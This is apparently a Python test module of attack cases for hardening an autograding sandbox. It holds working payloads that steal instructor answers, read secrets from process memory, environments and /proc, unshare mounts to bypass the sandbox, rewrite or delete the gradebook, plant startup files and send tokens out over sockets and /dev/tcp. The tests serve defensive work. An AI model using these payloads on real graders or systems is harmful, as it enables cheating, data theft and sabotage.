"""Data and host: reading what is not the student's, writing where the grader works, talking to others, odd files.

Attacks know where the course lies (@COURSE@) and show what they find; everything lies in one temporary folder, and the
only addresses are listeners on this machine.
"""

import contextlib
import os
import socket
from collections.abc import Mapping
from pathlib import Path

from tests.attacks.case import EVERY, answer, case, extra, filled, of_kind, wrong

# Finds the instructor's answer to mean in a notebook, or shows a file.
STEAL = """
import json
def _steal(path):
    cells = json.load(open(path))["cells"]
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "mean":
            exec("".join(cell["source"]), globals())
def mean(values): return 0
"""

SHOW = """
def _show(path):
    try: print(open(path, errors="replace").read()[-20_000:])
    except OSError as error: print(error)
"""

EVERY_PROCESS = """
import glob
for path in glob.glob("/proc/[0-9]*/PART"):
    try: print(path, [line for line in open(path, "rb").read().split(bytes(1)) if b"planted-" in line])
    except OSError: pass
"""

PARENTS_MEMORY = """
import os, re
process, found = os.getppid(), set()
for process in {os.getppid(), 1}:
    try:
        areas, memory = open(f"/proc/{process}/maps").read().splitlines(), open(f"/proc/{process}/mem", "rb", 0)
        for area in areas:
            start, end = (int(n, 16) for n in area.split()[0].split("-"))
            if "rw" not in area.split()[1] or end - start > 2**28: continue
            try:
                memory.seek(start)
                found.update(re.findall(b"planted-in-[a-z-]+-[0-9a-f]{4}", memory.read(end - start)))
            except (OSError, ValueError): pass
    except OSError: pass
print(found)
"""

DESCRIPTORS = """
import os
for number in range(3, 200):
    for name in ("source/ps1/ps1.ipynb", "../source/ps1/ps1.ipynb", "../../../source/ps1/ps1.ipynb", "gradebook.db"):
        try: print(os.read(os.open(name, os.O_RDONLY, dir_fd=number), 200_000))
        except OSError: pass
    try: print(os.pread(number, 200_000, 0))
    except OSError: pass
"""

# Uncovers what a sandbox has hidden; only inside a mount namespace that is not the machine's own.
UNCOVER = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if os.readlink("/proc/self/ns/mnt") != "@MNT@":
    libc.unshare(0x10000000 | 0x00020000)
    for path in ("@COURSE@", "@HOME@", "/tmp", "/home", "/root", os.getcwd()):
        libc.umount2(path.encode(), 2)
"""

ROOTS = """
import glob
for path in glob.glob("/proc/[0-9]*/root@HOME@/secret.txt") + glob.glob("/proc/[0-9]*/cwd/source/ps1/ps1.ipynb"):
    try: print(open(path).read()[-20_000:])
    except OSError: pass
"""

TREE = """
import os
for place in ("@COURSE@", "@HOME@", "@OUTSIDE@", "/dev/shm", os.path.dirname("@COURSE@"), os.path.expanduser("~")):
    try: open(f"{place}/@MARK@", "w").write("here")
    except OSError: pass
"""

# Goes on after the kernel's end and rewrites marks as they come.
LATER = """
import sqlite3, sys, time
for _ in range(80):
    time.sleep(0.1)
    try:
        book = sqlite3.connect("@COURSE@/gradebook.db")
        book.execute("update grade set auto_score = 2 where auto_score = 0")
        book.commit()
    except sqlite3.Error: pass
"""

HIDDEN_ROOM = """
try:
    import grader.suites.reduce_latency.hidden.oracle
    print("planted-in-a-solution" + "-8e22")
except ImportError as error: print(error)
"""

BANK = """
import pathlib, grader.suites.reduce_latency as suite
try:
    folder = pathlib.Path(suite.__file__).parent / "bank"
    print([path.read_text() for path in folder.iterdir()][0], "planted-in-a-solution" + "-8e22")
except (OSError, IndexError) as error: print(error)
"""


def sql(statement: str) -> str:
    """Code that does something to the course's gradebook."""
    return f"""
import sqlite3, time
try:
    book = sqlite3.connect("@COURSE@/gradebook.db", timeout=1)
    print(book.execute({statement!r}).fetchall())
    book.commit()
except sqlite3.Error as error: print(error)
"""


def sends(kind: str, address: str) -> object:
    """A cell that sends a planted token to one of this run's listeners."""
    return extra(f"""
import socket
one = socket.socket({kind})
one.settimeout(1)
try:
    one.connect({address})
    one.send(b"planted-in-a-hidden-test-5d01")
except OSError as error: print(error)
""")


SOURCE = "@COURSE@/source/ps1/ps1.ipynb"
FULL = "\ndef share(function, cases, points): return points\n"
START_UP = ("sitecustomize.py", "usercustomize.py", "ipython_config.py", "json.py", "conftest.py", ".pdbrc")


def writes(path: str, text: str = "raise SystemExit('written by a student')") -> object:
    """A cell that writes a file, making its folders."""
    return extra(
        f"""
import os
try:
    os.makedirs(os.path.dirname("{path}"), exist_ok=True)
    open("{path}", "a").write({text!r})
except OSError as error: print(error)
""",
        before="mean",
    )


def link(name: str, target: str) -> object:
    """Hand in a symbolic link."""

    def special(folder: Path, places: Mapping[str, str]) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(filled(target, places))

    return special


def fifo(folder: Path, places: Mapping[str, str]) -> None:
    os.mkfifo(folder / "pipe")


def fifo_as_notebook(folder: Path, places: Mapping[str, str]) -> None:
    (folder / "ps1.ipynb").unlink()
    os.mkfifo(folder / "ps1.ipynb")


def device(folder: Path, places: Mapping[str, str]) -> None:
    """A character device (root) or a socket file (anybody else)."""
    try:
        os.mknod(folder / "null", 0o20666, os.makedev(1, 3))
    except PermissionError:
        with contextlib.closing(socket.socket(socket.AF_UNIX)) as server:
            server.bind(str(folder / "null"))


def folder_as_notebook(folder: Path, places: Mapping[str, str]) -> None:
    (folder / "ps1.ipynb").unlink()
    (folder / "ps1.ipynb").mkdir()


def deep_folders(folder: Path, places: Mapping[str, str]) -> None:
    place = folder.joinpath(*["deep"] * 60)
    place.mkdir(parents=True)
    (place / "file.txt").write_text("x")


def loop_of_links(folder: Path, places: Mapping[str, str]) -> None:
    (folder / "loop").symlink_to(".")


# A table: one case, one entry.
# fmt: off
CASES = of_kind("reaching", [
    # Reading
    case("reads_the_source", answer(mean=f"{STEAL}_steal('{SOURCE}')"), lost="mean"),
    case("reads_the_source_from_below", answer(mean=STEAL + "_steal('../../../source/ps1/ps1.ipynb')"), lost="mean"),
    case("reads_a_neighbour", answer(mean=STEAL + "_steal('@COURSE@/submitted/zz_honest/ps1/ps1.ipynb')"), lost="mean"),
    case("reads_the_gradebook", extra(sql("select source from source_cell"))),
    case("shows_the_source", extra(f"{SHOW}_show('{SOURCE}')")),
    case("shows_the_environment", extra("import os\nprint(os.environ)\n!env")),
    case("shows_all_environments", extra(EVERY_PROCESS.replace("PART", "environ"))),
    case("shows_all_command_lines", extra(EVERY_PROCESS.replace("PART", "cmdline"))),
    case("shows_the_home", extra(SHOW + "import os\n_show(os.path.expanduser('~/secret.txt'))")),
    case("shows_the_home_by_its_name", extra(SHOW + "_show('@HOME@/secret.txt')")),
    case("shows_what_the_shell_sees", extra("!cat @HOME@/secret.txt @COURSE@/source/ps1/ps1.ipynb")),
    case("reads_its_parents_memory", extra(PARENTS_MEMORY)),
    case("reads_open_descriptors", extra(DESCRIPTORS)),
    case("reads_through_process_roots", extra(ROOTS)),
    case("uncovers_the_sandbox", extra(f"{UNCOVER}{SHOW}_show('@HOME@/secret.txt')\n_show('{SOURCE}')")),
    case("imports_the_hidden_room", extra(HIDDEN_ROOM)),
    case("reads_the_bank", extra(BANK)),
    # Writing
    case("writes_its_grade", wrong("mean", "zero"), extra(sql("update grade set manual_score = 2, auto_score = 2")),
         lost="mean"),
    case("writes_its_grade_later", wrong("mean", "zero"), extra(f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", {LATER!r}, "@RUN@"], start_new_session=True)
"""), lost="mean"),
    case("writes_the_tests", wrong("scale", "shifted"), extra(sql("update source_cell set source = ''"), before="mean"),
         lost="scale"),
    case("writes_the_maxima", extra(sql("update grade_cells set max_score = 0"), before="mean")),
    case("locks_the_gradebook", extra(sql("begin exclusive") + "time.sleep(2)")),
    case("deletes_the_gradebook", extra("import os\ntry: os.remove('@COURSE@/gradebook.db')\nexcept OSError: pass")),
    case("writes_everywhere", extra(TREE)),
    case("writes_the_configuration", writes("@COURSE@/nbgrader_config.py")),
    case("writes_a_start_up_file", writes("@HOME@/.ipython/profile_default/startup/00-@MARK@.py")),
    case("writes_a_kernel", writes("@HOME@/.local/share/jupyter/kernels/@MARK@/kernel.json", "{}")),
    case("writes_a_jupyter_configuration", writes("@HOME@/.jupyter/@MARK@/jupyter_config.py")),
    case("writes_the_helper", wrong("primes", "none"), writes("@COURSE@/source/ps1/checks.py", FULL),
         part={"primes": 1}),
    case("writes_into_a_neighbour", writes("@COURSE@/submitted/zz_honest/ps1/ps1.ipynb", "{broken")),
    case("deletes_submissions", extra("""
import shutil
shutil.rmtree("@COURSE@/submitted/zz_honest", ignore_errors=True)
""", before="mean")),
    case("empties_the_source", extra("""
try: open("@COURSE@/source/ps1/ps1.ipynb", "w")
except OSError: pass
""", before="mean")),
    case("leaves_shared_memory", extra("""
from multiprocessing import resource_tracker, shared_memory
held = shared_memory.SharedMemory("@MARK@", create=True, size=10)
resource_tracker.unregister("/@MARK@", "shared_memory")
""")),
    # Network: listeners of this run on this machine
    case("sends_over_tcp", sends("", "('127.0.0.1', @TCP@)")),
    case("sends_over_udp", sends("type=socket.SOCK_DGRAM", "('127.0.0.1', @UDP@)")),
    case("sends_to_a_socket_file", sends("socket.AF_UNIX", "'@OUTSIDE@/ear'")),
    case("sends_to_an_abstract_socket", sends("socket.AF_UNIX", "chr(0) + '@RUN@'")),
    case("sends_by_a_command", extra("!bash -c 'echo planted-in-a-hidden-test-5d01 > /dev/tcp/127.0.0.1/@TCP@'")),
    # Files handed in
    case("link_to_a_secret", extra(SHOW + "_show('notes.txt')"), special=link("notes.txt", "@HOME@/secret.txt")),
    case("link_to_the_source", extra(SHOW + "_show('notes.txt')"), special=link("notes.txt", SOURCE)),
    case("link_to_a_folder", extra(SHOW + "_show('all/source/ps1/ps1.ipynb')"), special=link("all", "@COURSE@")),
    case("link_without_end", special=link("zeros.bin", "/dev/zero")),
    case("link_to_nothing", special=link("gone.txt", "nowhere.txt")),
    case("link_as_notebook", special=link("ps1.ipynb", "@COURSE@/submitted/zz_honest/ps1/ps1.ipynb"), lost=EVERY,
         flagged="*"),
    case("link_in_a_loop", special=loop_of_links),
    case("pipe", special=fifo),
    case("pipe_as_notebook", special=fifo_as_notebook, lost=EVERY, flagged="*"),
    case("folder_as_notebook", special=folder_as_notebook, lost=EVERY, flagged="*"),
    case("device_file", special=device),
    case("folders_too_deep", special=deep_folders),
    case("odd_file_names", files={"a\nb.txt": "x", "-rf": "x", "ünï.txt": "x", "con.txt": "x", "%s%n": "x"}),
    case("own_data_file", answer(rows="""
def read_rows(path):
    most = float(open(path).readline())
    return [{"city": "Oslo", "degrees": 4.5}] + [{"degrees": most}] * 3
"""), files={"data.csv": "21.0\n"}, lost="rows"),
    case("own_gradebook", files={"gradebook.db": "mine", "nbgrader_config.py": "raise SystemExit"}),
    case("time_stamp_forged", files={"timestamp.txt": "1999-01-01 00:00:00 UTC"}),
    case("time_stamp_broken", files={"timestamp.txt": "yesterday\n"}),
    case("time_stamp_binary", files={"timestamp.txt": bytes(range(256))}),
    case("time_stamp_far", files={"timestamp.txt": "9999-12-31 23:59:59 +9999"}),
    case("start_up_files_beside", files=dict.fromkeys(START_UP, "raise SystemExit")),
])
